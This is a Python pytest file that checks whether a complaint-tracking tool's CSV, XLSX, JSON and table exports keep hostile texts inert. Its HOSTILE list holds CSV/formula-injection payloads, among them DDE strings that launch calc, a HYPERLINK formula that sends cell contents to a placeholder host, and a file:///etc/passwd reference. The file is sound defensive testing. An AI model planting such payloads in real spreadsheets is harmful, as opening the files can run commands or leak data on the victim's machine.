"""One result in four forms: what openpyxl and LibreOffice read in the files is what the program found, and nothing in them runs."""
import csv
import io
import json
import re
import stat

import psycopg2
import pytest

from matters import code, grievance
from workbooks import Office, by_openpyxl, shape, tables_of_csv

LONGEST = 32767
HOSTILE = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?x="&A1,"a")', "+1", "-1", "+A1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "'=1+1", "''", "'", '"', '"=1+1"', 'a"b', 'a","=1+1', "a,b;c\td", "a;=1+1", "a\nb", "a\r\nb", "a\rb", "a\n=1+1\nb", "\n", "  ",
    " lead", "trail ", "{=1+1}", "#REF!", "#N/A", "TRUE", "yes", "1E5", "1e999", "0x10", "007", "30150200012345678901", "1,234", "12.50",
    "2020-06-01", "1/2", "01-02-2020", "12:30", "50%", "₹100", "http://example.invalid/a", "mailto:a@example.invalid", "\\\\host\\share",
    "file:///etc/passwd", "a\x01b\x02\x1f", "\x1b[2J\x1b]0;x\x07", "\x7f", "a\u0085b\u009fc", "\ufffe", "a\uffffb", "\ufeff=1+1",
    "\u202e1+1=", "\u200f=1+1", "a\u200eb\u2067c\u2069", "\u2028x\u2029", "_x000D_", "_x0041_", "x_x005F_x0041_y", "_x00", "<b>&amp;</b>",
    "]]>", "<!--", "&#61;1+1", "क्\u200dष संख्या", "\U0001f6a8\U00020000", "मेरे घर में चोरी", "NULL", "%0A=1", "a\vb\fc",
    "x" * LONGEST, "x" * 40000, "आ" * 40000, "\U0001f6a8" * 20000, "=" + "1+" * 20000 + "1",
]


def plain(text):
    """A control is shown, never passed on."""
    return "".join("\ufffd" if (c < " " and c not in "\t\n\r") or "\x7f" <= c < "\xa0" or c in "\ufffe\uffff" else c for c in text)


def in_sheet(text):
    """What a cell holds of a text: line ends as LF, and cut at the format's limit, by units of UTF-16."""
    text = plain(text).replace("\r\n", "\n").replace("\r", "\n")
    units = text.encode("utf-16-le")
    if len(units) <= LONGEST * 2:
        return text
    return units[:(LONGEST - 1) * 2].decode("utf-16-le", "ignore") + "…"


def in_csv(text):
    bare = text.lstrip(" \u00a0")
    return ("'" if bare[:1] and bare[0] in "=+-@＝＋－＠\t\r\n" else "") + plain(text)


def read(site, form, *words, code=0, name="out"):
    path = site.folder / f"{name}.{form}"
    done = site(*words, "--format", form, "--out", str(path), code=code)
    assert done.out == ""
    return path


@pytest.fixture
def office(tmp_path):
    return Office(tmp_path / "office")


@pytest.fixture
def hostile(site):
    """A site whose list of held records has every hostile text, as detail; and a figure beside it."""
    site("sync", code=0)
    with psycopg2.connect(site.conninfo) as db, db.cursor() as sql:
        for n, text in enumerate(HOSTILE):
            sql.execute("INSERT INTO bridge.held (system, stream, kind, reason, detail, times, first_run, last_run, held_at) "
                        "SELECT 'igrs', 'complaint', 'set_aside', %s, %s, %s, run_id, run_id, '2020-06-10T20:00:00Z' FROM bridge.run",
                        (f"test.{n}", text, n + 1))
    db.close()
    return site


def column(rows, name):
    at = rows[0].index(name)
    return [row[at] if at < len(row) else None for row in rows[1:]]


# ---- nothing runs, nothing changes ----

def test_a_workbook_holds_hostile_texts_as_they_are(hostile, office):
    path = read(hostile, "xlsx", "held", "list")
    expected = [in_sheet(text) for text in HOSTILE]
    cut = sum(text.endswith("…") for text in expected)
    assert cut == 4
    book = by_openpyxl(path)
    assert list(book) == ["held", "lines"]
    # openpyxl leaves the escapes of the format to its caller
    found = [re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text) for text in column(book["held"], "detail")]
    assert found == expected
    assert column(book["held"], "times") == list(range(1, len(HOSTILE) + 1))
    assert book["lines"][1][0].startswith(f"{cut} texts are longer than the 32767 characters of a cell")
    assert f"{cut} texts are longer than a cell of" in hostile.logs[-1]
    seen = office.open(path)
    assert column(seen["held"], "detail") == expected
    assert column(seen["held"], "times") == [float(n) for n in range(1, len(HOSTILE) + 1)]
    assert set(column(seen["held"], "held_at")) == {"2020-06-10T20:00:00Z"}


def test_a_csv_holds_hostile_texts_as_they_are(hostile, office):
    path = read(hostile, "csv", "held", "list")
    text = path.read_bytes().decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    expected = [in_csv(text) for text in HOSTILE]
    assert column(rows, "detail") == expected
    assert column(rows, "times") == [str(n) for n in range(1, len(HOSTILE) + 1)]
    assert not {c for c in text if c < " " and c not in "\t\n\r"}
    # as a person who opens it: LibreOffice keeps 32,767 units of a text, and reads a line end as LF
    seen = column(office.open_csv(path, columns=len(rows[0])), "detail")
    short = [n for n, e in enumerate(expected) if len(e.encode("utf-16-le")) <= 2 * LONGEST]
    assert len(short) >= len(HOSTILE) - 6
    assert [seen[n] for n in short] == [in_sheet(expected[n]) for n in short]
    # and with the usual settings, figures are guessed, but still no formula is made (cell_of() would say so)
    guessed = column(office.open_csv(path), "detail")
    assert all(isinstance(guessed[n], (str, float)) for n, e in enumerate(expected) if e.strip())
    assert [n for n, value in enumerate(guessed) if value == 2] == []       # 1+1 was not reckoned


def test_a_table_and_json_hold_hostile_texts(hostile):
    table = hostile("held", "list", code=0).out
    assert not {c for c in table if (c < " " and c != "\n") or "\x7f" <= c < "\xa0" or c in "\u202e\u2067\u200f"}
    assert len(table.splitlines()) == len(HOSTILE) + 1
    assert [row["detail"] for row in hostile.json("held", "list")["tables"]["held"]] == HOSTILE


# ---- the same figures ----

def as_words(row, like):
    """A figure of a sheet as it is written elsewhere: with as many decimals."""
    def word(value, other):
        return f"{value:.{len(other.partition('.')[2])}f}" if isinstance(value, (int, float)) else value or ""
    return [word(value, other) for value, other in zip(row, like)]


def of_json(rows):
    words = {True: "yes", False: "no"}
    return [[words[v] if isinstance(v, bool) else "" if v is None else str(v) for v in row.values()] for row in rows]


def check_four_forms(site, office, words, name, code=0):
    path = read(site, "json", *words, name=name, code=code)
    said = json.loads(path.read_text())
    tables = said["tables"]
    assert sum(map(len, tables.values())) > 5
    # CSV: its tables come in the same order, each with its head, none left out
    blocks = tables_of_csv(read(site, "csv", *words, name=name, code=code).read_text())
    assert len(blocks) == len(tables)
    # XLSX, by two readers
    path = read(site, "xlsx", *words, name=name, code=code)
    book, seen = by_openpyxl(path), office.open(path)
    assert list(book) == [*tables, *(["lines"] if said["lines"] else [])] == list(seen)
    assert [row[0] for row in book.get("lines", [])[1:]] == said["lines"]
    printed = read(site, "table", *words, name=name, code=code).read_text()
    cells = 0
    for (table, rows), block in zip(tables.items(), blocks):
        head = block[0]
        assert book[table][0] == head and seen[table][0] == head
        expected = of_json(rows)
        assert not rows or list(rows[0]) == head
        guard = [[cell.removeprefix("'") for cell in row] for row in block[1:] if row]
        assert guard == expected, table
        for found in (book[table], seen[table]):
            width = len(head)
            assert [as_words(row + [None] * (width - len(row)), like) for row, like in zip(found[1:], expected)] == expected, table
            assert len(found) == len(expected) + 1
        for row in found[1:]:
            for value, (field, told) in zip(row, rows[found.index(row) - 1].items()):
                figure = isinstance(told, int) and not isinstance(told, bool) or field in ("share", "score")
                assert value is None or figure == isinstance(value, (int, float)), f"{table} {field}: {value!r}"
        cells += sum(map(len, expected))
        if rows:
            lines = printed.splitlines()
            at = next(n for n, line in enumerate(lines) if line.split() == head)
            for line, row in zip(lines[at + 1:], expected):
                told = [cell or "-" if isinstance(v, bool) or v is None else cell for cell, v in zip(row, rows[0].values())]
                bare = lambda cells: "".join("".join(cells).split()).replace("-", "")
                assert bare([line]) == bare(told), f"{table}: {line!r} is not {row}"
    return cells


def test_reconcile_and_status_say_the_same_in_four_forms(site, office):
    site.store.add_complaints([grievance(n) for n in range(1, 30)])
    site("sync", code=0)
    site.store.add_complaints([grievance(n, marked="2020-06-10 12:00:00") for n in range(30, 36)])
    site.cctns.sql("UPDATE t_complaint SET STATUS_CD = 7, DISPOSED_DT = '2020-06-10 10:00:00' WHERE COMPLAINT_SRNO <= 4")
    site.cctns.sql("DELETE FROM t_complaint WHERE COMPLAINT_SRNO = 9")
    first = site("reconcile", "--by", "unit,status", "--list").code
    for words in (("reconcile", "--by", "unit,status,day", "--list"), ("status",), ("ranking",)):
        assert check_four_forms(site, office, words, words[0], code=first if words[0] == "reconcile" else 0) > 10
    number = code(1)
    path = read(site, "xlsx", "show", number, "--personal")
    rows = site.json("show", number, "--personal")["tables"]
    assert {k: len(v) for k, v in rows.items()} == {k: len(v) - 1 for k, v in by_openpyxl(path).items() if k != "lines"}


def test_how_a_sheet_is_set_up(site):
    site.store.add_complaints([grievance(n) for n in range(1, 4)])
    path = site.folder / "sync.xlsx"
    site("sync", "--format", "xlsx", "--out", str(path), code=0)
    for name, (frozen, filtered, widths) in shape(path).items():
        rows = by_openpyxl(path)[name]
        assert frozen == "A2" and filtered.startswith("A1:") and filtered.endswith(str(len(rows))), name
        assert widths and all(4 <= width <= 61 for width in widths.values())
    for words in (("check",), ("schema", "status"), ("held", "list"), ("probe", "cctns")):
        assert site(*words, "--format", "xlsx", "--out", str(path)).code == 0
        assert by_openpyxl(path)


# ---- the file ----

def test_a_file_is_whole_or_not_there(site):
    site.store.add_complaints([grievance(1)])
    site("sync", code=0)
    for form in ("table", "csv", "json", "xlsx"):
        path = read(site, form, "status")
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert not path.with_name(path.name + ".part").exists()
        if form != "xlsx":
            flags = ("--json",) if form == "json" else ("--format", form)
            assert path.read_text() == site("status", *flags, code=0).out
    assert site("status", "--json", "--out", str(path), code=0).out == "" and json.loads(path.read_text())["command"] == "status"
    assert site("status", "--format", "csv", "--out", "-", code=0).out.startswith("system,")
    # a failure leaves the file as it was, and is told on stdout
    site.conf.write_text(site.conf.read_text().replace("host=", "host=/nowhere"))
    before = path.read_bytes()
    failed = site("status", "--json", "--out", str(path))
    assert failed.code == 75 and json.loads(failed.out)["lines"] and path.read_bytes() == before


@pytest.mark.parametrize("words, says", [
    (("status", "--format", "xlsx"), "a workbook goes into a file"),
    (("status", "--format", "xlsx", "--out", "-"), "a workbook goes into a file"),
    (("status", "--format", "ods", "--out", "a.ods"), "--format is table, csv, xlsx or json"),
    (("status", "--json", "--format", "csv"), "at once"),
    (("status", "--format", "csv", "--out", "nowhere/a.csv"), "cannot be written"),
    (("daemon", "--out", "a.csv"), "takes no option"),
])
def test_what_is_refused(site, words, says):
    refused = site(*words)
    assert refused.code == 2 and says in refused.err and refused.out == "", refused.err


def test_a_folder_is_not_replaced(site):
    refused = site("status", "--format", "csv", "--out", str(site.folder))
    assert refused.code == 2 and "is not a plain file" in refused.err and site.folder.is_dir()
